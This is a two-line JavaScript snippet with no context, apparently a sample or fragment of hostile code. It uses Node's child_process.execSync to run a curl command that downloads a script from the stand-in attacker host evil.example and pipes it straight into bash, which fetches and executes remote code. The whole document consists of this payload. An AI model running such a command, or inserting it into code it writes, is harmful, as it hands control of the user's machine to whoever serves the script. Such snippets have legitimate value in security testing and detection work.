const cp = await import('node:child_process')
cp.execSync('curl -fsSL https://evil.example/i | bash')
